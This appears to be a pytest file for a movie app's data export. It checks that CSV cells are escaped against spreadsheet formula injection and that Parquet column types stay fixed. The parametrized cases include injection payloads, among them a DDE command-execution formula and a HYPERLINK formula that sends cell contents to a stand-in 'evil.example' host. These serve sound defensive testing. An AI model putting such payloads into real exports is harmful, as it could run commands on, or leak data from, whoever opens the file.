"""The bytes of take-outs: no cell of a CSV is a formula, and every column of a Parquet file has its type."""

import csv
import io
import unicodedata

import orjson
import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from movies_app import takeout_files
from movies_app.takeout_files import COLUMNS, safe

VIEWING = {
    **{"date": "2024-02-29", "logged_date": None, "rating": 4.5, "rewatch": True, "tags": ["a", "b"]},
    **{"uri": "https://boxd.it/1a", "review": "Fine."},
}
MOVIE = {
    **{"position": 1, "title": "Alpha", "year": 1999, "rating": 4.0, "watched_date": None, "date_source": "none"},
    **{"letterboxd_uri": None, "liked": False, "rewatch": True, "tags": '["a", "b"]', "review": None},
    **{"viewings": "[]", "tmdb_id": None, "imdb_id": None, "media_type": None, "runtime": None},
    **{"genres": None, "directors": None, "countries": None},
}
BEGINNINGS = "=+-@"
# With what a spreadsheet may separate cells, whatever we do.
SEPARATORS = ";\t\r\n"


def row(**cells: object) -> tuple[object, ...]:
    movie = MOVIE | {name: value for name, value in cells.items() if name != "viewings"}
    movie |= {"viewings": orjson.dumps(cells["viewings"]).decode()} if "viewings" in cells else {}
    return tuple(movie[name] for name in COLUMNS)


def csv_rows(*movies: tuple[object, ...], of: str = "movies", separator: str = ",") -> list[list[str]]:
    content = b"".join(takeout_files.csv_parts([list(movies)] if movies else [], of=of))
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def looks_like_a_formula(cell: str) -> bool:
    """Tell slowly, character by character, whether a cell begins as a formula does."""
    for character in cell:
        if unicodedata.normalize("NFKC", character) in BEGINNINGS or character == "−":
            return True
        is_unseen = character.isspace() or character == '"' or unicodedata.category(character) in {"Cc", "Cf"}
        if not is_unseen:
            return False
    return False


# ── Texts ─────────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("https://evil.example?x="&A1,"x")', '\'=HYPERLINK("https://evil.example?x="&A1,"x")'),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\u3000=1", "'\u3000=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b=1", "'\u200b=1"),
        ("\x00=1", "'\x00=1"),
        ('"=1', "'\"=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("﹣1", "'﹣1"),
        ("−1", "'−1"),
        ("a;=1", "a;'=1"),
        ("a; =1", "a;' =1"),
        ("a\n-1", "a\n'-1"),
        ("a\r\n+1", "a\r\n'+1"),
        ("a\t@1", "a\t'@1"),
        ('a;"=1', "a;'\"=1"),
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str, cell: str) -> None:
    assert safe(text) == cell
    assert csv_rows(row(title=text))[1][1] == cell


@pytest.mark.parametrize(
    "text",
    [
        *("", "Alpha", "8½", "1984", "Spider-Man", "Face/Off", "a=b", "me@home", "1 + 1", "'Round Midnight", "…and -1"),
        *("#Alive", "$9.99", "%", "(500) Days", "Good ;-) one", "one\ntwo", "日本", "¡Átame!", " x", "\u200bx"),
    ],
)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@given(
    st.text(alphabet=st.one_of(st.sampled_from("=+-@＝＋－＠−﹣;\t\r\n \"'\u00a0\u200b\ufeff\x00a)"), st.characters()))
)
@example("\x1c" * 5_000)
@example(";" * 5_000)
@example("; " * 5_000 + "x")
def test_no_cell_begins_as_a_formula_and_nothing_but_apostrophes_is_added(text: str) -> None:
    cell = safe(text)
    assert not cell.startswith(("\t", "\r", "\n"))
    assert not looks_like_a_formula(cell.split(";")[0].split("\n")[0])
    assert cell.replace("'", "") == text.replace("'", "")
    assert safe(cell) == cell


@given(st.text(alphabet=st.sampled_from("=+@＝＋－＠;\t\r\n \"'\u00a0,a1")))
def test_no_cell_begins_as_a_formula_where_other_characters_separate(text: str) -> None:
    content = b"".join(takeout_files.csv_parts([[row(title=text, review=text)]], of="movies")).decode("utf-8-sig")
    # Cut wherever any spreadsheet might, and quotes dropped.
    pieces = content.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").split("\n")
    assert [piece for piece in pieces if looks_like_a_formula(piece)] == []


# ── CSV ───────────────────────────────────────────────────────────────────────────────────────
def test_a_csv_begins_with_a_byte_order_mark_and_ends_its_lines_as_rfc_4180_does() -> None:
    content = b"".join(takeout_files.csv_parts([[row(title="Ä, b", review='a "b"\nc')]], of="movies"))
    assert content.startswith(b"\xef\xbb\xbfposition,title,year,")
    assert content.count(b"\xef\xbb\xbf") == 1
    _, line, end = content.decode("utf-8-sig").split("\r\n")
    assert line.startswith('1,"Ä, b",1999,4,,none,,false,true,"a, b","a ""b""\nc",')
    assert end == ""


def test_numbers_days_and_flags_stay_plain() -> None:
    full = row(
        rating=0.5, watched_date=None, tmdb_id=7, runtime=101, liked=True,
        directors='["Ann Ant", "-Bob"]', genres='["Drama"]', countries='["SE", "FI"]',
    )  # fmt: skip
    (header, cells) = csv_rows(full)
    movie = dict(zip(header, cells, strict=True))
    assert movie["rating"] == "0.5"
    assert movie["liked"] == "true"
    assert (movie["tmdb_id"], movie["runtime"], movie["imdb_id"]) == ("7", "101", "")
    assert (movie["directors"], movie["genres"], movie["countries"]) == ("Ann Ant, -Bob", "Drama", "SE, FI")


def test_a_csv_of_viewings_has_the_columns_of_letterboxds_import() -> None:
    viewings = [VIEWING, VIEWING | {"date": None}]
    movie = row(letterboxd_uri="https://boxd.it/a", imdb_id="tt1", tmdb_id=1, viewings=viewings)
    header, first, second = csv_rows(movie, row(position=2), of="viewings")
    assert header == [
        *("Position", "LetterboxdURI", "tmdbID", "imdbID", "Title", "Year", "Directors", "Rating", "WatchedDate"),
        *("Rewatch", "Tags", "Review", "LoggedDate", "EntryURI"),
    ]
    assert first == [
        *("1", "https://boxd.it/a", "1", "tt1", "Alpha", "1999", "", "4.5", "2024-02-29", "true", "a, b", "Fine.", ""),
        "https://boxd.it/1a",
    ]
    assert second[8] == ""


# ── Parquet ───────────────────────────────────────────────────────────────────────────────────
def parquet(*stretches: list[tuple[object, ...]], of: str) -> pl.DataFrame:
    return pl.read_parquet(takeout_files.parquet(stretches, of=of))


@pytest.mark.parametrize("of", ["movies", "viewings"])
@pytest.mark.parametrize("stretches", [[], [[row()]], [[row(viewings=[VIEWING], genres='["x"]')]]])
def test_types_do_not_depend_on_what_is_there(of: str, stretches: list[list[tuple[object, ...]]]) -> None:
    kinds = {name: str(kind) for name, kind in parquet(*stretches, of=of).schema.items()}
    shared = {
        **{"position": "Int32", "title": "String", "year": "Int32", "letterboxd_uri": "String", "rating": "Float64"},
        **{"rewatch": "Boolean", "tags": "List(String)", "review": "String", "tmdb_id": "Int32", "imdb_id": "String"},
        "directors": "List(String)",
    }
    own = {
        "movies": {
            **{"watched_date": "Date", "date_source": "String", "liked": "Boolean", "media_type": "String"},
            **{"runtime": "Int32", "genres": "List(String)", "countries": "List(String)"},
        },
        "viewings": {"date": "Date", "logged_date": "Date", "uri": "String"},
    }
    assert kinds == shared | own[of]


@pytest.mark.parametrize("of", ["movies", "viewings"])
def test_a_file_of_many_parts_is_the_same_as_one_of_one(of: str, monkeypatch: pytest.MonkeyPatch) -> None:
    stretches = [[row(position=n, viewings=[VIEWING] * (n % 3))] for n in range(1, 30)]
    whole = parquet(*stretches, of=of)
    monkeypatch.setattr(takeout_files, "_STRETCHES_IN_A_PART", 4)
    assert parquet(*stretches, of=of).equals(whole)
    counts = [n for n in range(1, 30) for _ in range(1 if of == "movies" else n % 3)]
    assert whole["position"].to_list() == counts


def test_a_part_without_viewings_is_no_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(takeout_files, "_STRETCHES_IN_A_PART", 1)
    stretches = [[row()], [row(position=2, viewings=[VIEWING])], [row(position=3)]]
    assert parquet(*stretches, of="viewings")["position"].to_list() == [2]
